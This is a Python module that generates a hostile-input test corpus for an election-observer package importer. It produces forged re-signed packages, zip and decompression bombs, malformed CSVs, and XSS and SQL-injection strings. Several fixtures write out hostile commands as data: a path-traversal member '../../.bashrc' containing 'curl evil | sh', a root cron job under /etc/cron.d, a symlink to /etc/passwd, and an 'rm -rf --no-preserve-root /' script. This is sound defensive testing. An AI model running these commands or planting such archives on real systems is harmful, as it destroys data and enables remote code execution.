"""The hostile input corpus: small files are committed in ``tests/corpus/files/``; this module
makes the rest (packages built with the real export function and then damaged, large images,
a zip bomb) into a temporary folder at test time.

    python -m tests.corpus.make_corpus --static    # rewrite the committed small files
    python -m tests.corpus.make_corpus OUTDIR      # write the generated cases into OUTDIR (to look at them)

Every damaged package is what an attacker or a broken USB stick could produce:
either bytes changed after signing (the signature or hashes must catch it), or a
package re-signed by a forger's own key with hostile content inside (only the
deeper checks of the embedded database can catch that).
"""

from __future__ import annotations

import argparse
import hashlib
import io
import json
import sqlite3
import stat
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from PIL import Image

from observer.package import DATA_NAME as DATA
from observer.package import MANIFEST_NAME as MANIFEST
from observer.package import SIGNATURE_NAME as SIGNATURE

STATIC = Path(__file__).with_name("files")

# Text that must be stored as text and shown as text, never run or rendered.
HOSTILE_TEXT = {
    "description": "<b>bold</b><script>alert('x')</script>'); DROP TABLE stations; --",
    "involved": '<img src=x onerror=alert(1)> & "председатель" <i>УИК</i>',
    "observer": "Robert'); DROP TABLE observers;-- <u>Айгүл</u>",
    "address": "ул. <a href='http://evil'>Абая</a>, 1; DELETE FROM meta;",
}


# ---- zip helpers ---------------------------------------------------------------------


def members_of(pkg: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(pkg) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist()}


def write_zip(path: Path, members: list[tuple[str | zipfile.ZipInfo, bytes]]) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in members:
            zf.writestr(name, data)
    return path


def resign(
    src: Path,
    dest: Path,
    keys: Any,
    *,
    change: dict[str, bytes | None] | None = None,
    edit: Callable[[dict[str, Any]], None] | None = None,
) -> Path:
    """Rebuild a package with changed members and a consistent manifest signed by ``keys`` (a forger's key)."""
    members = members_of(src)
    manifest = json.loads(members.pop(MANIFEST))
    members.pop(SIGNATURE)
    for name, data in (change or {}).items():
        if data is None:
            members.pop(name, None)
        else:
            members[name] = data
    manifest["members"] = [
        {"name": n, "sha256": hashlib.sha256(d).hexdigest(), "size": len(d)} for n, d in sorted(members.items())
    ]
    manifest["public_key"] = keys.public_hex
    manifest["fingerprint"] = keys.fingerprint
    if edit:
        edit(manifest)
    body = json.dumps(manifest, indent=1, sort_keys=True).encode()
    return write_zip(dest, [*members.items(), (MANIFEST, body), (SIGNATURE, keys.sign(body))])


def change_db(pkg: Path, scratch: Path, sql: str) -> bytes:
    """The package's database with ``sql`` applied."""
    db = scratch / f"forged-{hashlib.sha256(sql.encode()).hexdigest()[:12]}.sqlite"
    db.unlink(missing_ok=True)
    db.write_bytes(members_of(pkg)[DATA])
    conn = sqlite3.connect(db)
    try:
        conn.executescript(sql)
        conn.commit()
    finally:
        conn.close()
    return db.read_bytes()


def swap_photo(pkg: Path, dest: Path, scratch: Path, keys: Any, data: bytes, suffix: str = ".jpg") -> Path:
    """Replace the protocol photo (the package's JPEG) by ``data``, with its record and the manifest made consistent."""
    members = members_of(pkg)
    old = next(n for n in members if n.startswith("evidence/") and n.endswith(".jpg"))
    digest = hashlib.sha256(data).hexdigest()
    new = f"evidence/{digest}{suffix}"
    db = change_db(
        pkg,
        scratch,
        f"UPDATE evidence SET sha256='{digest}', stored_name='{digest}{suffix}', size={len(data)} WHERE stored_name='{old.split('/', 1)[1]}';",
    )
    return resign(pkg, dest, keys, change={old: None, new: data, DATA: db})


# ---- images ---------------------------------------------------------------------------


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims ``width`` x ``height`` (CRC fixed, so only the size is wrong)."""
    buf = io.BytesIO()
    Image.new("L", (1, 1)).save(buf, "PNG")
    raw = bytearray(buf.getvalue())
    raw[16:24] = struct.pack(">II", width, height)
    raw[29:33] = zlib.crc32(bytes(raw[12:29])).to_bytes(4, "big")
    return bytes(raw)


def jpeg(size: tuple[int, int] = (640, 480), colour: tuple[int, int, int] = (40, 120, 200), quality: int = 85) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, colour).save(buf, "JPEG", quality=quality)
    return buf.getvalue()


def real_bomb_png(path: Path, side: int = 14_000) -> Path:
    """A genuine decompression bomb: ~25 KB on disk, ``side``² pixels (196 MP) once decoded."""
    Image.new("1", (side, side)).save(path, "PNG", optimize=False)
    return path


def hundred_megapixels_jpeg(path: Path) -> Path:
    """A real 100-megapixel JPEG (10,000 x 10,000), small on disk because it is flat."""
    Image.new("L", (10_000, 10_000), 128).save(path, "JPEG", quality=50)
    return path


def zip_bomb(pkg: Path, dest: Path) -> Path:
    """The real package plus one member that inflates 40 MB of zeros from a few KB."""
    info = zipfile.ZipInfo(f"evidence/{hashlib.sha256(b'bomb').hexdigest()}.jpg")
    info.compress_type = zipfile.ZIP_DEFLATED
    return write_zip(dest, [*members_of(pkg).items(), (info, b"\0" * (40 * 1024 * 1024))])


def zeros_bomb(dest: Path, members: int = 500, size: int = 4 * 1024 * 1024) -> Path:
    """``members`` files of exactly ``size`` zeros (each just at the per-member ratio floor):
    2 GiB unpacked from a ~2 MB file. Written by hand from one deflated stream, in a second."""
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = raw.compress(b"\0" * size) + raw.flush()
    crc = zlib.crc32(b"\0" * size)
    local, central = bytearray(), bytearray()
    for i in range(members):
        name = f"evidence/{hashlib.sha256(str(i).encode()).hexdigest()}.jpg".encode()
        fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x21, crc, len(data), size)
        offset = len(local)
        local += b"PK\x03\x04" + fields + struct.pack("<HH", len(name), 0) + name + data
        central += (
            b"PK\x01\x02"
            + struct.pack("<H", 20)
            + fields
            + struct.pack("<HHHHHI", len(name), 0, 0, 0, 0, (0o100644 << 16))
            + struct.pack("<I", offset)
            + name
        )
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, members, members, len(central), len(local), 0)
    dest.write_bytes(bytes(local + central + end))
    return dest


def _patch_member(pkg: Path, dest: Path, member: str, patch: Callable[[bytearray, zipfile.ZipInfo], None]) -> Path:
    data = bytearray(pkg.read_bytes())
    with zipfile.ZipFile(pkg) as zf:
        info = zf.getinfo(member)
    patch(data, info)
    dest.write_bytes(bytes(data))
    return dest


def unsupported_method(pkg: Path, dest: Path) -> Path:
    """The manifest's compression method set to 97 (WavPack): zipfile raises NotImplementedError."""

    def patch(data: bytearray, info: zipfile.ZipInfo) -> None:
        data[info.header_offset + 8 : info.header_offset + 10] = struct.pack("<H", 97)
        at = data.find(b"PK\x01\x02")
        while at != -1:  # the member's central directory entry (zipfile reads the method there)
            name_len = struct.unpack("<H", data[at + 28 : at + 30])[0]
            if bytes(data[at + 46 : at + 46 + name_len]) == info.filename.encode():
                data[at + 10 : at + 12] = struct.pack("<H", 97)
            at = data.find(b"PK\x01\x02", at + 4)

    return _patch_member(pkg, dest, MANIFEST, patch)


def broken_deflate(pkg: Path, dest: Path) -> Path:
    """The manifest's deflate stream garbled (an invalid block type): zlib.error while reading it."""

    def patch(data: bytearray, info: zipfile.ZipInfo) -> None:
        name_len, extra_len = struct.unpack("<HH", data[info.header_offset + 26 : info.header_offset + 30])
        start = info.header_offset + 30 + name_len + extra_len
        data[start] = 0xFF  # BTYPE = 11: reserved, an error in every inflater

    return _patch_member(pkg, dest, MANIFEST, patch)


# ---- the committed small files -------------------------------------------------------------

OFFICIAL_HEADER = "УИК;Область;ТИК;Избирателей;Выдано;В урнах;Недействительных;Действительных;Нур Отан;Ак жол"
OFFICIAL_MAP = """# Mapping of the corpus's official-results CSVs (docs/official-import.md)
encoding = "utf-8"
delimiter = ";"

[station]
code = "УИК"
region = "Область"
district = "ТИК"

[lines]
registered = "Избирателей"
issued = "Выдано"
in_boxes = "В урнах"
invalid = "Недействительных"
valid = "Действительных"

[parties]
nur_otan = "Нур Отан"
ak_zhol = "Ак жол"
"""
_GOOD = "1;KZ-ALA;Алмалинская;1000;600;590;10;580;400;180"


def _official(*rows: str, header: str = OFFICIAL_HEADER) -> bytes:
    return ("\n".join([header, *rows]) + "\n").encode("utf-8")


def static_files() -> dict[str, bytes]:
    """Name -> bytes of every committed corpus file."""
    truncated = jpeg((800, 600), (200, 30, 30))
    sym = io.BytesIO()
    with zipfile.ZipFile(sym, "w") as zf:
        info = zipfile.ZipInfo(f"evidence/{hashlib.sha256(b'link').hexdigest()}.jpg")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(info, "/etc/passwd")
    dotdot = io.BytesIO()
    with zipfile.ZipFile(dotdot, "w") as zf:
        zf.writestr("../../.bashrc", "curl evil | sh\n")
    absolute = io.BytesIO()
    with zipfile.ZipFile(absolute, "w") as zf:
        zf.writestr("/etc/cron.d/evil", "* * * * * root sh\n")
    return {
        # packages that are not packages
        "not-a-package.bqpkg": b"MZ\x90\x00\x03\x00\x00\x00 this is a Windows program, not a package" * 4,
        "empty.bqpkg": b"",
        "photo-renamed.bqpkg": jpeg((64, 48)),
        "dotdot-member.bqpkg": dotdot.getvalue(),
        "absolute-member.bqpkg": absolute.getvalue(),
        "symlink-member.bqpkg": sym.getvalue(),
        # photos
        "not-an-image.jpg": b"#!/bin/sh\nrm -rf --no-preserve-root /\n" * 20,
        "truncated.jpg": truncated[: len(truncated) // 2],
        "bomb-header.png": png_claiming(60_000, 60_000),
        "empty.jpg": b"",
        "not-a-video.mp4": b"<html><body>definitely not a video</body></html>\n" * 10,
        # CSVs (official results use official.map.toml; station lists use default columns)
        "official.map.toml": OFFICIAL_MAP.encode("utf-8"),
        "official-cp1251-declared-utf8.csv": (
            "\n".join([OFFICIAL_HEADER, "1;KZ-ALA;Алмалинская;1000;600;590;10;580;400;180"]) + "\n"
        ).encode("cp1251"),
        "stations-utf16.csv": "code,region\n101,KZ-ALA\n".encode("utf-16"),
        "official-missing-column.csv": _official(
            "1;KZ-ALA;Алмалинская;1000;600;590;10;400;180", header=OFFICIAL_HEADER.replace(";Действительных", "")
        ),
        "official-duplicate-station.csv": _official(
            _GOOD, "2;KZ-ALA;Алмалинская;900;500;500;0;500;300;200", _GOOD.replace(";1000;", ";1001;")
        ),
        "official-extra-cells.csv": _official(_GOOD, "2;KZ-ALA;Алмалинская;900;500;500;0;500;300;200;77;88"),
        "official-negative.csv": _official(_GOOD.replace(";10;", ";-10;")),
        "official-over-2-63.csv": _official(_GOOD.replace(";400;", ";9223372036854775808;")),
        "official-huge.csv": _official(_GOOD.replace(";400;", ";100000001;")),
        "official-fraction.csv": _official(_GOOD.replace(";400;", ";400.5;")),
        "official-words.csv": _official(_GOOD.replace(";400;", ";четыреста;")),
        "official-broken-quote.csv": _official(_GOOD, '2;KZ-ALA;"Алмалинская;900;500;500;0;500;300;200'),
        "stations-missing-code.csv": "region,district,address\nKZ-ALA,Алмалинская,ул. Абая 1\n".encode(),
        "stations-duplicate.csv": b"code,region,registered\n101,KZ-ALA,1500\n102,KZ-ALA,900\n101,KZ-AST,800\n",
        "stations-unknown-region.csv": "code,region\n101,Атлантида\n".encode(),
        "stations-quotes-newlines.csv": (
            "code,region,district,address,registered\n"
            '301,KZ-ALA,"Алмалинский ""центр""","ул. Абая, 1\nвход со двора; <b>DROP TABLE</b>",1500\n'
            '302,KZ-ALA,Бостандыкский,"""кавычки"" и, запятые",900\n'
        ).encode(),
    }


def write_static(folder: Path = STATIC) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    out = []
    for name, data in sorted(static_files().items()):
        (folder / name).write_bytes(data)
        out.append(folder / name)
    return out


# ---- generated packages --------------------------------------------------------------------


def fill_station(store: Any, scratch: Path, *, text: dict[str, str] | None = None, registered: int = 1500) -> None:
    """Realistic station data through the observer's own store calls (with a photo)."""
    st = store.current_station()
    pid = store.protocol_id(st.id)
    for key, value in {"registered": registered, "issued": 900, "in_boxes": 880, "valid": 850, "invalid": 30}.items():
        store.set_protocol_value(pid, key, value)
    store.add_headcount(st.id, 1)
    store.set_spoiled(st.id, store.template.spoiled_reasons[0].code, 4)
    text = text or {}
    store.save_violation(
        st.id,
        category=store.template.violation_categories[0].code,
        occurred_at=datetime(2021, 1, 10, 9, 30, tzinfo=UTC),
        description=text.get("description", "Наблюдателя не пустили к столу подсчёта"),
        involved=text.get("involved", "председатель УИК"),
    )
    photo = scratch / "protocol.jpg"
    photo.write_bytes(jpeg((320, 200)))
    store.add_evidence(st.id, photo, protocol_id=pid)


def make_station(root: Path, template: Any, code: str, *, text: dict[str, str] | None = None) -> Any:
    from db.store import ElectionStore

    store = ElectionStore.create(root / f"station-{code}.baqylau", template)
    text = text or {}
    store.set_observer(text.get("observer", "Айгүл Қасымова"), "MISK")
    st = store.upsert_station(code, "KZ-ALA", "Алмалы", text.get("address", "ул. Абая, 1"), 1500)
    store.select_station(st.id)
    fill_station(store, root, text=text)
    return store


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("out", nargs="?", type=Path)
    parser.add_argument("--static", action="store_true", help="rewrite the committed small files")
    args = parser.parse_args(argv)
    if args.static:
        for p in write_static():
            print(p)
    if args.out:
        from observer.signing import KeyPair
        from observer.template import builtin_template

        args.out.mkdir(parents=True, exist_ok=True)
        store = make_station(args.out, builtin_template("kz-majilis-2021"), "101")
        from db.package import export_station_package

        pkg = export_station_package(store, args.out, KeyPair.generate())
        store.close()
        zip_bomb(pkg, args.out / "zip-bomb.bqpkg")
        real_bomb_png(args.out / "bomb.png")
        hundred_megapixels_jpeg(args.out / "100mp.jpg")
        print(args.out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
